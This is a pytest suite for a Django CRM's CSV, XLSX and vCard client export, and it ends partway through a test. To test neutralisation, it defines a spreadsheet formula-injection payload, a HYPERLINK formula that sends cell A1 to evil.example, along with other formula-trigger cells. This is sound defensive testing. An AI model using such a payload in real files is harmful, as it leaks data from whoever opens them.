"""The client list as CSV, XLSX and vCard files: which rows, which cells, which bytes, and what a failure leaves."""

import csv
import gc
import io
import re
from array import array
from typing import Any

import openpyxl
import pytest
import vobject
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from clientela.accounts.models import Action, Role
from clientela.clients import field_services as fs
from clientela.clients.fields import FieldType
from clientela.clients.models import Client
from clientela.clients.selectors import ClientFilters, StatusFilter
from clientela.clients.services import client_invalidate, client_update, group_delete
from clientela.clients.tests.factories import make_client, make_contact, make_group
from clientela.core.errors import PermissionDenied
from clientela.exchange import exports
from clientela.exchange.columns import Part, client_columns, export_columns, format_cell, neutralise, parse_cell
from clientela.exchange.exports import ClientRows, ExportOptions, client_export
from clientela.exchange.vcard import card_uid

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


# Helpers (the other export tests use them too) -------------------------------------------------------


def custom_field(admin, name, field_type=FieldType.TEXT, options=(), **settings):
    settings.setdefault("labels", {"en": name.replace("_", " ").title()})
    settings.setdefault("subordinates_may_edit", True)
    return fs.field_create(
        actor=admin,
        record_type="client",
        name=name,
        field_type=field_type,
        options=[{"key": key, "labels": labels} for key, labels in options],
        **settings,
    )


def every_custom_type(admin) -> None:
    """One custom client field of each type, with labels in English and Czech."""
    custom_field(admin, "code", labels={"en": "Code", "cs": "Kód"})
    custom_field(admin, "notes", FieldType.LONG_TEXT)
    custom_field(admin, "staff", FieldType.INTEGER)
    custom_field(admin, "revenue", FieldType.DECIMAL)
    custom_field(
        admin,
        "tier",
        FieldType.CHOICE,
        options=[("tier1", {"en": "Tier 1", "cs": "Úroveň 1"}), ("tier2", {"en": "Tier 2", "cs": "Úroveň 2"})],
    )
    custom_field(admin, "sectors", FieldType.MULTI_CHOICE, options=[("food", {"en": "Food"}), ("it", {"en": "IT"})])
    custom_field(admin, "founded", FieldType.DATE)
    custom_field(admin, "vip", FieldType.BOOLEAN)
    custom_field(admin, "hotline", FieldType.PHONE)


CUSTOM_VALUES = {
    "code": "A-1",
    "notes": "Line one\nline two",
    "staff": "1200",
    "revenue": "1234.50",
    "tier": "tier2",
    "sectors": ["food", "it"],
    "founded": "2001-02-03",
    "vip": "yes",
    "hotline": "602 111 222",
}


def parse_csv(data: bytes, *, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


def by_header(table: list[list[str]]) -> list[dict[str, str]]:
    header, *rows = table
    return [dict(zip(header, row, strict=True)) for row in rows]


def read_xlsx(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def export_bytes(user, *, filters: ClientFilters | None = None, selected=None, **options: Any) -> bytes:
    export = client_export(
        user=user, filters=filters or ClientFilters(), options=ExportOptions(**options), selected=selected
    )
    if export.options.format == "xlsx":
        target = io.BytesIO()
        export.write_xlsx(target)
        return target.getvalue()
    return b"".join(export.stream())


# Rows and cells --------------------------------------------------------------------------------------


def _stored(client: Client, key: str, part: str, name: str) -> Any:
    """A column's stored value, read the slow way from the model (what the fast path must match)."""
    if part == Part.CUSTOM:
        return client.custom_fields.get(name)
    if key == "owner":
        return client.owner.username
    if key == "groups":
        return sorted(group.name for group in client.groups.all())
    if part == Part.CONTACT:
        contact = client.contacts.filter(is_primary=True).first()
        return getattr(contact, key.removeprefix("contact_"), None) if contact else None
    return getattr(client, "pk" if key == "id" else key)


def test_every_cell_is_what_format_cell_writes_for_the_stored_value(admin_user, alice, full_client, group):
    every_custom_type(admin_user)
    second = make_group(user=alice, name="Export")
    full_client.groups.add(second)
    client = Client.objects.get(pk=full_client.pk)
    from clientela.clients.services import client_update

    client = client_update(client=client, user=alice, version=client.version, values={}, custom_fields=CUSTOM_VALUES)
    plain = make_client(user=alice, name="Prostá s.r.o.", kind="individual", language="cs")
    columns = export_columns(client_columns())

    (first, second_row) = [
        row for chunk in ClientRows(Client.objects.order_by("pk"), columns).chunks() for row in chunk
    ]

    for stored, row in ((Client.objects.get(pk=client.pk), first), (plain, second_row)):
        expected = [format_cell(c, _stored(stored, c.key, c.part, c.custom_name)) for c in columns]
        assert list(row) == expected
    cells = dict(zip([c.key for c in columns], first, strict=True))
    assert cells["groups"] == "Export; Wholesale"
    assert cells["cf:tier"] == "Tier 2"
    assert cells["cf:sectors"] == "Food; IT"
    assert cells["cf:vip"] == "Yes"
    assert cells["cf:hotline"] == "+420602111222"  # as stored: the CSV writer neutralises it
    assert cells["contact_first_name"] == "Jiří"  # the primary contact
    assert cells["shipping_same_as_billing"] == "No"
    assert dict(zip([c.key for c in columns], second_row, strict=True))["kind"] == "Individual"


def test_every_cell_reads_back_as_the_stored_value(admin_user, alice, full_client):
    every_custom_type(admin_user)
    from clientela.clients.services import client_update

    client = client_update(
        client=full_client, user=alice, version=full_client.version, values={}, custom_fields=CUSTOM_VALUES
    )
    client = Client.objects.get(pk=client.pk)
    columns = export_columns(client_columns())

    (row,) = [row for chunk in ClientRows(Client.objects.filter(pk=client.pk), columns).chunks() for row in chunk]

    for column, text in zip(columns, row, strict=True):
        stored = _stored(client, column.key, column.part, column.custom_name)
        if column.key in ("status", "owner"):
            continue  # read to match and to show, or by the importer's own look-up
        parsed = parse_cell(column, text)
        if column.key == "groups":
            assert parsed == stored
        elif stored in (None, ""):
            assert parsed == "", column.key
        else:
            assert str(parsed) == str(stored), column.key


def test_the_header_is_the_column_labels_in_the_readers_language(admin_user, alice):
    every_custom_type(admin_user)
    make_client(user=alice, name="Úrovňová s.r.o.", custom_fields={"tier": "tier2"})

    with translation.override("cs"):
        table = parse_csv(export_bytes(alice))

    with translation.override("cs"):
        labels = [str(column.label) for column in export_columns(client_columns())]
    assert table[0] == labels
    assert "Kód" in table[0] and "Code" not in table[0]  # a custom field's label in Czech
    assert "Úroveň 2" in table[1] and "Tier 2" not in table[1]  # and its options


def test_the_list_columns_are_those_of_the_list_page_plus_the_chosen_custom_ones(admin_user, alice, alice_client):
    every_custom_type(admin_user)
    from clientela.clients.field_selectors import custom_field_definitions

    tier = next(d for d in custom_field_definitions(record_type="client") if d.name == "tier")
    columns = exports.columns_for("shown", shown_custom=[tier])
    with_invalid = exports.columns_for("shown", status=StatusFilter.ALL)

    assert [c.key for c in columns] == [
        "id", "name", "kind", "registration_id", "tax_id", "vat_id", "country", "email", "phone", "owner", "groups",
        "cf:tier",
    ]  # fmt: skip
    assert [c.key for c in with_invalid][-1] == "status"


# Who and what is exported ------------------------------------------------------------------------------


def test_a_stranger_exports_none_of_alices_clients(alice, dave, alice_client, bob_client):
    own = make_client(user=dave, name="Dave's Own Ltd", country="GB")

    names = [row["Name"] for row in by_header(parse_csv(export_bytes(dave)))]

    assert names == [own.name]


def test_the_owner_and_her_manager_export_her_team_but_her_subordinate_does_not_see_hers(
    alice, bob, carol, alice_client, bob_client
):
    assert sorted(r["Name"] for r in by_header(parse_csv(export_bytes(alice)))) == [alice_client.name, bob_client.name]
    assert sorted(r["Name"] for r in by_header(parse_csv(export_bytes(carol)))) == [alice_client.name, bob_client.name]
    assert [r["Name"] for r in by_header(parse_csv(export_bytes(bob)))] == [bob_client.name]


def test_a_role_without_export_gets_nothing(alice, alice_client):
    alice.role = Role.objects.create(name="Look only", actions=[Action.VIEW, Action.EDIT])
    alice.save()

    with pytest.raises(PermissionDenied):
        client_export(user=alice, filters=ClientFilters(), options=ExportOptions())


def test_invalid_clients_are_exported_only_with_show_invalid(alice, alice_client, bob_client):
    client_invalidate(client=alice_client, user=alice)

    active = by_header(parse_csv(export_bytes(alice)))
    everything = by_header(parse_csv(export_bytes(alice, filters=ClientFilters(status=StatusFilter.ALL))))

    assert [row["Name"] for row in active] == [bob_client.name]
    assert sorted((row["Name"], row["Status"]) for row in everything) == [
        (alice_client.name, "Invalid"),
        (bob_client.name, "Active"),
    ]


def test_a_selection_exports_only_the_ticked_clients_the_user_sees(alice, dave, alice_client, bob_client):
    strangers = make_client(user=dave, name="Not Yours Ltd", country="GB")
    client_invalidate(client=bob_client, user=alice)
    make_client(user=alice, name="Not ticked s.r.o.")

    rows = by_header(parse_csv(export_bytes(alice, selected=[bob_client.pk, strangers.pk, alice_client.pk])))

    assert [row["Name"] for row in rows] == [alice_client.name, bob_client.name]  # the list's order, by name
    assert [row["Clientela id"] for row in rows] == [str(alice_client.pk), str(bob_client.pk)]


def test_a_selection_of_no_clients_exports_the_header_alone(alice, alice_client):
    rows = parse_csv(export_bytes(alice, selected=[]))

    assert len(rows) == 1 and rows[0][:3] == ["Clientela id", "Kind", "Name"]
    assert list(exports.ClientRows(Client.objects.filter(pk__in=[]), export_columns(client_columns())).chunks()) == []


def test_the_search_and_filters_of_the_list_apply(alice, alice_client, bob_client):
    make_client(user=alice, name="Modrá Hora a.s.", country="SK")

    searched = by_header(parse_csv(export_bytes(alice, filters=ClientFilters(search="modra"))))
    romanian = by_header(parse_csv(export_bytes(alice, filters=ClientFilters(country="RO"))))

    assert sorted(row["Name"] for row in searched) == ["Modrá Hora a.s.", alice_client.name]
    assert [row["Name"] for row in romanian] == [bob_client.name]


# Formulas ------------------------------------------------------------------------------------------------


def test_formula_cells_are_neutralised_in_csv(alice):
    make_client(
        user=alice, name=FORMULA_NAME, phone="+420 601 123 456", billing_street="@SUM(1+1)", billing_city="'=quoted"
    )

    (row,) = by_header(parse_csv(export_bytes(alice)))

    assert row["Name"] == "'" + FORMULA_NAME
    assert row["Phone"] == "'+420601123456"
    assert row["Billing street"] == "'@SUM(1+1)"
    assert row["Billing city"] == "''=quoted"  # its own ' survives the importer's restore
    assert row["Country"] == "CZ"


def test_formula_cells_are_text_with_a_quote_prefix_in_xlsx(alice):
    make_client(user=alice, name=FORMULA_NAME, phone="+420 601 123 456", email="a@example.cz", billing_city="'=quoted")

    sheet = read_xlsx(export_bytes(alice, format="xlsx"))
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))

    assert (row["Name"].value, row["Name"].data_type, row["Name"].quotePrefix) == (FORMULA_NAME, "s", True)
    assert (row["Phone"].value, row["Phone"].data_type, row["Phone"].quotePrefix) == ("+420601123456", "s", True)
    assert (row["E-mail"].value, row["E-mail"].quotePrefix) == ("a@example.cz", False)
    assert (row["Billing city"].value, row["Billing city"].quotePrefix) == ("''=quoted", True)
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


# XLSX and vCard ------------------------------------------------------------------------------------------


def test_the_xlsx_file_has_the_header_and_a_row_per_client(alice, full_client, bob_client):
    sheet = read_xlsx(export_bytes(alice, format="xlsx"))

    rows = [[cell.value for cell in line] for line in sheet.iter_rows()]
    header = [str(c.label) for c in export_columns(client_columns())]
    assert rows[0] == header
    assert sheet.title == "Clients"
    assert sheet.freeze_panes == "A2"
    by_name = {row[header.index("Name")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert sorted(by_name) == [full_client.name, bob_client.name]
    modra = by_name[full_client.name]
    assert (modra["Clientela id"], modra["Registration id"], modra["Billing city"]) == (
        str(full_client.pk),
        "27168352",
        "Brno",
    )
    assert (modra["Owner"], modra["Groups"], modra["Contact: first name"]) == ("alice", "Wholesale", "Jiří")
    assert modra["Tax id"] == full_client.tax_id
    assert by_name[bob_client.name]["Owner"] == "bob"
    assert by_name[bob_client.name]["Website"] is None  # empty cells stay empty


def test_an_xlsx_export_too_big_for_a_sheet_is_refused_and_writes_nothing(monkeypatch, tmp_path, alice):
    for number in range(3):
        make_client(user=alice, name=f"Client {number}")
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    export = client_export(user=alice, filters=ClientFilters(), options=ExportOptions(format="xlsx"))
    target = tmp_path / "clients.xlsx"

    with pytest.raises(ValidationError) as refused:
        export.check()
    with pytest.raises(ValidationError):
        export.write_xlsx(str(target))

    assert refused.value.messages == ["An XLSX sheet holds at most 2 clients; export CSV instead."]
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []


def test_the_vcard_file_holds_each_clients_card_and_its_contacts_cards(alice, full_client, bob_client):
    for version in ("3.0", "4.0"):
        text = export_bytes(alice, format="vcf", vcard_version=version).decode("utf-8")

        cards = list(vobject.readComponents(text))
        assert [card.fn.value for card in cards] == [
            "Modrá Vlna s.r.o.", "Jiří Dvořák", "Ioana Țăran, Popescu", "伟 王", "Țesătoria Argeș SRL",
        ]  # fmt: skip
        assert cards[0].uid.value == card_uid("client", full_client.pk)
        assert cards[4].uid.value == card_uid("client", bob_client.pk)
        assert {card.version.value for card in cards} == {version}


def test_the_vcard_file_carries_custom_values_read_once(admin_user, alice, alice_client, django_assert_num_queries):
    custom_field(admin_user, "code")
    for number in range(3):
        make_client(user=alice, name=f"Coded {number}", custom_fields={"code": f"K{number}"})
    export = client_export(user=alice, filters=ClientFilters(), options=ExportOptions(format="vcf"))

    # the clients, their contacts, and the field settings with their options, once
    with django_assert_num_queries(4):
        text = b"".join(export.stream()).decode()

    codes = [
        card.contents["x-clientela-code"][0].value
        for card in vobject.readComponents(text)
        if card.fn.value != alice_client.name
    ]
    assert codes == ["K0", "K1", "K2"]


# Encodings and delimiters --------------------------------------------------------------------------------

CZECH = "Příliš žluťoučký kůň"
CHINESE = "蓝色波浪贸易有限公司"


@pytest.mark.parametrize(
    ("encoding", "start"),
    [
        ("utf-8-sig", b"\xef\xbb\xbf"),
        ("utf-8", b"Clientela id"),
        ("utf-16", b"\xff\xfeC\x00"),
        ("gb18030", b"Clientela id"),
        ("cp1250", b"Clientela id"),
        ("iso-8859-2", b"Clientela id"),
    ],
)
def test_each_encoding_writes_czech_in_its_own_bytes(alice, encoding, start):
    make_client(user=alice, name=CZECH)

    data = export_bytes(alice, encoding=encoding)

    assert data.startswith(start)
    assert data.count(start) == 1  # one BOM, however many pieces the file was written in
    assert f",{CZECH},".encode(encoding.replace("-sig", "")).removeprefix(b"\xff\xfe") in data
    assert by_header(parse_csv(data, encoding=encoding))[0]["Name"] == CZECH


def test_chinese_is_written_in_gb18030_and_utf_8(alice):
    make_client(user=alice, name=CHINESE, country="CN")

    for encoding in ("gb18030", "utf-8"):
        data = export_bytes(alice, encoding=encoding)
        assert CHINESE.encode(encoding) in data
        assert by_header(parse_csv(data, encoding=encoding))[0]["Name"] == CHINESE


def test_characters_a_lossy_encoding_cannot_hold_become_question_marks_and_are_counted(alice):
    make_client(user=alice, name=f"{CHINESE} {CZECH}", country="CN")
    export = client_export(user=alice, filters=ClientFilters(), options=ExportOptions(encoding="cp1250"))

    data = b"".join(export.stream())

    assert by_header(parse_csv(data, encoding="cp1250"))[0]["Name"] == "?" * len(CHINESE) + " " + CZECH
    assert export.tally.replaced == len(CHINESE)
    assert export.tally.count == 1
    # cp1252 has š and ž but no ř, ť, č or ů: Western European
    western = by_header(parse_csv(export_bytes(alice, encoding="cp1252"), encoding="cp1252"))[0]["Name"]
    assert western.endswith(" P?íliš žlu?ou?ký k??")


def test_a_header_the_encoding_cannot_hold_is_refused_before_anything_is_written(admin_user, alice, alice_client):
    custom_field(admin_user, "region", labels={"en": "地区"})
    export = client_export(user=alice, filters=ClientFilters(), options=ExportOptions(encoding="cp1250"))

    with pytest.raises(ValidationError) as refused:
        export.check()

    assert refused.value.messages == [
        "The column “地区” cannot be written in windows-1250. Choose UTF-8 (with BOM for Excel), "
        "or an encoding for this language."
    ]
    client_export(user=alice, filters=ClientFilters(), options=ExportOptions(encoding="gb18030")).check()


@pytest.mark.parametrize(("delimiter", "given"), [(";", ";"), ("\t", "tab"), ("\t", "\t"), (",", "comma")])
def test_the_delimiter_is_the_one_chosen(alice, alice_client, delimiter, given):
    data = export_bytes(alice, delimiter=exports.parse_delimiter(given))

    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith(f"Clientela id{delimiter}Kind{delimiter}Name{delimiter}")
    assert lines[1].startswith(f"{alice_client.pk}{delimiter}Company{delimiter}Modrá Vlna s.r.o.{delimiter}")
    assert lines[2:] == [""]


def test_a_delimiter_inside_a_value_is_quoted(alice):
    make_client(user=alice, name="Nakladatelství; Tisk, a.s.")

    data = export_bytes(alice, delimiter=";")

    assert b';"Nakladatelstv\xc3\xad; Tisk, a.s.";' in data
    assert by_header(parse_csv(data, delimiter=";"))[0]["Name"] == "Nakladatelství; Tisk, a.s."


def test_an_unknown_encoding_or_delimiter_is_refused():
    with pytest.raises(ValidationError):
        ExportOptions(encoding="latin-9")
    with pytest.raises(ValidationError):
        exports.parse_delimiter("|")


def test_custom_fields_are_columns_with_their_labels_and_formatted_values(admin_user, alice):
    every_custom_type(admin_user)
    make_client(user=alice, name="Vlastní s.r.o.", custom_fields=CUSTOM_VALUES)
    make_client(user=alice, name="Prázdná s.r.o.")

    full, empty = by_header(parse_csv(export_bytes(alice)))[::-1]

    custom = {
        label: full[label]
        for label in ("Code", "Notes", "Staff", "Revenue", "Tier", "Sectors", "Founded", "Vip", "Hotline")
    }
    assert custom == {
        "Code": "A-1",
        "Notes": "Line one\nline two",
        "Staff": "1200",
        "Revenue": "1234.5",  # as stored: a decimal with a dot, in every language
        "Tier": "Tier 2",
        "Sectors": "Food; IT",
        "Founded": "2001-02-03",
        "Vip": "Yes",
        "Hotline": "'+420602111222",
    }
    assert {empty[label] for label in custom} == {""}


# Streaming and failures -----------------------------------------------------------------------------------


def _make_clients(alice, group, count: int) -> None:
    for number in range(count):
        client = make_client(user=alice, name=f"Client {number:03}", groups=[group] if number % 2 else [])
        if number % 3 == 0:
            make_contact(client=client, user=alice, first_name="Jana", last_name=f"N{number}", is_primary=True)


def _queries_of_an_export(user, format: str) -> int:
    export = client_export(user=user, filters=ClientFilters(), options=ExportOptions(format=format))
    with CaptureQueriesContext(connection) as queries:
        if format == "xlsx":
            export.write_xlsx(io.BytesIO())
        else:
            for _piece in export.stream():
                pass
    return len(queries)


@pytest.mark.parametrize("format", ["csv", "xlsx", "vcf"])
def test_the_number_of_queries_does_not_grow_with_the_number_of_clients(alice, group, format):
    _make_clients(alice, group, 10)
    with_10 = _queries_of_an_export(alice, format)
    _make_clients(alice, group, 90)
    with_100 = _queries_of_an_export(alice, format)

    assert with_10 == with_100
    # the clients (with their primary contact, joined), their memberships and the groups' names (once per export);
    # vCard: the clients and their contacts
    assert with_10 == (2 if format == "vcf" else 3)


def test_rows_are_read_and_written_a_chunk_at_a_time(alice, group):
    _make_clients(alice, group, 5)
    rows = ClientRows(Client.objects.order_by("name"), export_columns(client_columns()), chunk_size=2)

    pieces = exports.csv_chunks(rows)
    header = next(pieces)

    assert header.startswith(b"\xef\xbb\xbfClientela id,Kind,Name,")
    assert rows.count == 0  # nothing read before it is asked for
    assert [len(piece.split(b"\r\n")) - 1 for piece in pieces] == [2, 2, 1]
    assert rows.count == 5


def test_a_csv_export_that_fails_part_way_ends_with_a_line_saying_so(monkeypatch, alice, group):
    _make_clients(alice, group, 5)
    rows = ClientRows(Client.objects.order_by("name"), export_columns(client_columns()), chunk_size=2)
    reading = ClientRows._value_chunks

    def failing(self, *args, **kwargs):  # the database goes away while the second chunk is read
        chunks = reading(self, *args, **kwargs)
        yield next(chunks)
        raise RuntimeError("the database went away")

    monkeypatch.setattr(ClientRows, "_value_chunks", failing)
    written: list[bytes] = []

    with pytest.raises(RuntimeError, match="the database went away"):
        for piece in exports.csv_chunks(rows):
            written.append(piece)

    lines = b"".join(written).decode("utf-8-sig").split("\r\n")
    assert len(lines) == 1 + 2 + 1 + 1  # the header, the first chunk, the notice, and the end of the last line
    assert lines[-2] == "EXPORT FAILED: This file is incomplete: it stops after 2 clients. Export again."
    assert lines[-1] == ""


def test_a_reader_that_goes_away_leaves_the_connection_usable(alice, group):
    _make_clients(alice, group, 7)
    rows = ClientRows(Client.objects.order_by("name"), export_columns(client_columns()), chunk_size=2)
    pieces = exports.csv_chunks(rows)
    next(pieces), next(pieces)  # the header and the first chunk

    pieces.close()  # the download was cancelled: the cursor (server-side on PostgreSQL) is closed

    assert rows.count == 2
    assert Client.objects.count() == 7  # the connection still answers, in this thread


def test_the_failure_line_starts_with_the_same_mark_in_every_language():
    from django.utils import translation

    with translation.override("cs"):
        czech = exports.failure_notice(1)

    # A program tells a cut file by the mark; the reason is the reader's.
    assert czech.startswith("EXPORT FAILED: ")
    assert "incomplete" not in czech  # the reason is in Czech
    with translation.override("en"):
        english = exports.failure_notice(1)
    assert english == "EXPORT FAILED: This file is incomplete: it stops after 1 client. Export again."


def test_a_vcard_export_that_fails_part_way_ends_with_a_line_that_is_not_a_card(monkeypatch, alice, group):
    _make_clients(alice, group, 3)
    from clientela.exchange import vcard

    original = vcard._client_cards
    done = []

    def failing(client, version, *, fields):
        if len(done) == 2:
            raise RuntimeError("the worker was stopped")
        done.append(client.pk)
        return original(client, version, fields=fields)

    monkeypatch.setattr(vcard, "_client_cards", failing)
    written: list[bytes] = []

    with pytest.raises(RuntimeError):
        for piece in exports.vcard_chunks(Client.objects.order_by("name")):
            written.append(piece)

    text = b"".join(written).decode()
    assert text.endswith(
        "END:VCARD\r\nEXPORT FAILED: This file is incomplete: it stops after 2 clients. Export again.\r\n"
    )
    assert text.count("BEGIN:VCARD") == 2 + 1  # two clients, one of them with a primary contact
    with pytest.raises(vobject.base.ParseError):
        list(vobject.readComponents(text))


def test_the_file_is_named_after_the_day_and_the_format(alice):
    from datetime import date

    export = client_export(user=alice, filters=ClientFilters(), options=ExportOptions(format="xlsx"))

    assert export.filename(date(2026, 11, 23)) == "clients-2026-11-23.xlsx"
    assert export.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert client_export(
        user=alice, filters=ClientFilters(), options=ExportOptions(encoding="cp1250")
    ).content_type == ("text/csv; charset=windows-1250")


# The round trip ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("format", "encoding", "delimiter"),
    [("csv", "utf-8-sig", ","), ("csv", "utf-16", ";"), ("csv", "gb18030", "\t"), ("xlsx", "utf-8-sig", ",")],
)
def test_an_exported_file_imported_again_over_the_same_clients_changes_nothing(
    settings, tmp_path, admin_user, alice, full_client, bob_client, format, encoding, delimiter
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from clientela.clients.models import Contact
    from clientela.clients.services import client_update
    from clientela.exchange import services

    settings.MEDIA_ROOT = tmp_path / "media"
    every_custom_type(admin_user)
    client_update(client=full_client, user=alice, version=full_client.version, values={}, custom_fields=CUSTOM_VALUES)
    make_client(user=alice, name=FORMULA_NAME, phone="+420 601 123 456", kind="individual", language="cs")
    make_client(user=alice, name="'=already quoted", billing_street="'plain", billing_city="-")
    client_invalidate(client=make_client(user=alice, name="Neplatná s.r.o."), user=alice)
    data = export_bytes(
        alice, filters=ClientFilters(status=StatusFilter.ALL), format=format, encoding=encoding, delimiter=delimiter
    )
    clients_before = list(Client.objects.order_by("pk").values())
    contacts_before = list(Contact.objects.order_by("pk").values())

    job = services.import_upload(user=alice, file=SimpleUploadedFile(f"clients.{format}", data), filename=f"x.{format}")
    services.import_set_options(job=job, user=alice, mapping=job.mapping, match_keys=["id"], mode="update")
    services.import_start(job=job, user=alice, dry_run=False, enqueue=False)
    result = services.import_execute(job.pk)

    assert "status" not in result.mapping and len([key for key in result.mapping if key]) == len(result.mapping) - 1
    assert list(result.rows.values_list("outcome", flat=True)) == ["unchanged"] * 5
    assert list(Client.objects.order_by("pk").values()) == clients_before
    assert list(Contact.objects.order_by("pk").values()) == contacts_before


TRICKY_CELLS = [
    "", "plain", "a,b", "a;b", "a\tb", 'say "hi"', '"', "line\nbreak", "cr\rlf\r\n", "=1+1", "+420601123456", "-",
    "@SUM(A1)", "\tlead", "\rlead", "'=quoted", "'", "'plain", "Příliš žluťoučký", "蓝色波浪", " spaced ", "x\x00y",
]  # fmt: skip


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_csv_text_is_what_csv_writer_writes_for_the_neutralised_cells(delimiter):
    columns = [TRICKY_CELLS, TRICKY_CELLS[::-1], ["same"] * len(TRICKY_CELLS), TRICKY_CELLS[3:] + TRICKY_CELLS[:3]]
    expected = io.StringIO()
    csv.writer(expected, delimiter=delimiter, lineterminator="\r\n").writerows(
        [neutralise(cell) for cell in row] for row in zip(*columns, strict=True)
    )

    written = exports._CsvLines(delimiter).chunk(columns)

    assert written == expected.getvalue()
    assert list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)) == [
        [neutralise(cell) for cell in row] for row in zip(*columns, strict=True)
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("cell", TRICKY_CELLS)
def test_one_tricky_cell_among_plain_ones_is_found_in_its_column(cell, delimiter):
    # Each column is scanned whole for what needs a cell-by-cell look: one such cell must be enough.
    columns = [["plain"] * 3 + [cell] + ["plain"] * 3, ["other"] * 7]
    expected = io.StringIO()
    csv.writer(expected, delimiter=delimiter, lineterminator="\r\n").writerows(
        [neutralise(value) for value in row] for row in zip(*columns, strict=True)
    )

    assert exports._CsvLines(delimiter).chunk(columns) == expected.getvalue()


PHONES = ["+420601123456", "'+420", "''=x", "'", "'plain", "-5", "+", "", "601 123 456", "@a", "=1;2", "\r\n+x", "+1"]


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("column", [PHONES, [*PHONES, "+x\x00=y"]], ids=["phones", "a NUL before a formula"])
def test_a_column_mostly_of_formula_cells_is_neutralised_cell_for_cell(column, delimiter):
    # Phone numbers in international form: most cells of such a column start with a formula character.
    columns = [column, column[::-1], ["same"] * len(column)]
    expected = io.StringIO()
    csv.writer(expected, delimiter=delimiter, lineterminator="\r\n").writerows(
        [neutralise(cell) for cell in row] for row in zip(*columns, strict=True)
    )

    written = exports._CsvLines(delimiter).chunk(columns)

    assert written == expected.getvalue()
    firsts = [row[0] for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)]
    assert firsts[:5] == ["'+420601123456", "''+420", "'''=x", "'", "'plain"]


def test_a_csv_of_one_column_is_what_csv_writer_writes_too():
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerows([neutralise(cell)] for cell in TRICKY_CELLS)

    assert exports._CsvLines(",").chunk([TRICKY_CELLS]) == expected.getvalue()


@pytest.mark.django_db(transaction=True)  # committed: a child process may read the database (PostgreSQL)
def test_the_benchmark_measures_the_csv_export_against_a_raw_select(admin_user, alice, alice_client, bob_client):
    from clientela.clients.management.commands._bench import Team, export_targets, measure_export

    team = Team(admin=admin_user, salesperson=alice, owners=[], weights=[], groups=[])

    result = measure_export(team)

    assert (result["rows"], result["columns"]) == (2, len(export_columns(client_columns())))
    assert result["rows_per_second"] > 0 and result["raw_rows_per_second"] > 0 and result["ratio"] > 0
    assert result["bytes"] == len(export_bytes(admin_user))
    assert result["memory"]["peak_mb"] > 0
    assert result["memory"]["method"] in ("tracemalloc peak", "child process peak RSS")
    targets = export_targets({"clients": 2, "export": result})
    assert [target["applies"] for target in targets] == [False, False]  # set for a million clients
    assert targets[1]["met"] is True


# Cells the database joins ----------------------------------------------------------------------------


def joined_segment(rows: list[list[str]]) -> exports.Segment:
    """A segment as the database writes one: each row's cells joined by CELL_END."""
    segment = exports.Segment.of([exports.CELL_END.join(row) for row in rows], len(rows[0]))
    assert segment is not None
    return segment


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_cells_the_database_joined_are_written_as_csv_writer_writes_them(delimiter):
    left = list(zip(TRICKY_CELLS, TRICKY_CELLS[::-1], ["same"] * len(TRICKY_CELLS), strict=True))
    middle = TRICKY_CELLS[5:] + TRICKY_CELLS[:5]
    right = list(zip(TRICKY_CELLS[3:] + TRICKY_CELLS[:3], TRICKY_CELLS, strict=True))
    rows = [[*a, b, *c] for a, b, c in zip(left, middle, right, strict=True)]
    expected = io.StringIO()
    csv.writer(expected, delimiter=delimiter, lineterminator="\r\n").writerows(
        [neutralise(cell) for cell in row] for row in rows
    )
    lines = exports._CsvLines(delimiter)

    mixed = lines.chunk([joined_segment([list(r) for r in left]), middle, joined_segment([list(r) for r in right])])
    alone = lines.chunk([joined_segment(rows)])

    assert mixed == expected.getvalue()
    assert alone == expected.getvalue()


@pytest.mark.parametrize("cell", TRICKY_CELLS)
def test_one_tricky_cell_among_joined_plain_ones_is_found(cell):
    rows = [["plain", "plain"], ["plain", cell], [cell, "plain"], ["plain", "plain"]]
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerows([neutralise(value) for value in row] for row in rows)

    assert exports._CsvLines(",").chunk([joined_segment(rows)]) == expected.getvalue()


@pytest.mark.parametrize("text", ["a\x1fb", "a\x1eb", "\x1f", "\x1e\x1f"])
def test_a_text_holding_a_separator_cannot_be_a_segment(text):
    assert exports.Segment.of(["x\x1fy", f"x\x1f{text}"], 2) is None
    assert exports.Segment.of(["x\x1fy", "x\x1fz"], 2) is not None


def csv_by_columns(rows: ClientRows, delimiter: str) -> str:
    """The CSV text of ClientRows' column-by-column cells, written row by row by csv.writer (the reference)."""
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([neutralise(label) for label in rows.header()])
    writer.writerows([neutralise(cell) for cell in row] for chunk in rows.chunks() for row in chunk)
    return text.getvalue()


@pytest.mark.parametrize(("delimiter", "language"), [(",", "en"), (";", "cs"), ("\t", "zh-hans")])
def test_the_csv_export_writes_the_cells_the_columns_give(admin_user, alice, full_client, group, delimiter, language):
    every_custom_type(admin_user)
    full_client.groups.add(group)
    from clientela.clients.services import client_update

    client = Client.objects.get(pk=full_client.pk)
    client_update(client=client, user=alice, version=client.version, values={}, custom_fields=CUSTOM_VALUES)
    make_client(user=alice, name="Prostá s.r.o.", kind="individual", language="cs")
